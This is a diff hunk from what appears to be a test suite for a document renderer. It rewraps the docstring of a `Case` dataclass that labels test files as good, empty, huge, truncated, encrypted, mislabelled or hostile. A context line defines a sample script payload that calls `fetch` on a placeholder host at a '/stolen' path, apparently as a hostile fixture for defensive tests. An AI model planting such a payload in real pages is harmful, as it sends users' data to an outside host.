@@ -14,8 +14,8 @@ ALERT = f'alert("run"); fetch("https://{HOST}/stolen")'
 
 @dataclass(frozen=True, slots=True)
 class Case:
-    """`nature`: good, empty, huge, truncated, encrypted, mislabelled or hostile. `kind`: as what it opens (`render.kind`).
-    `says`: words that the page shows, tags left out."""
+    """`nature`: good, empty, huge, truncated, encrypted, mislabelled or hostile. `kind`: as what it opens
+    (`render.kind`). `says`: words that the page shows, tags left out."""
 
     name: str
     nature: str
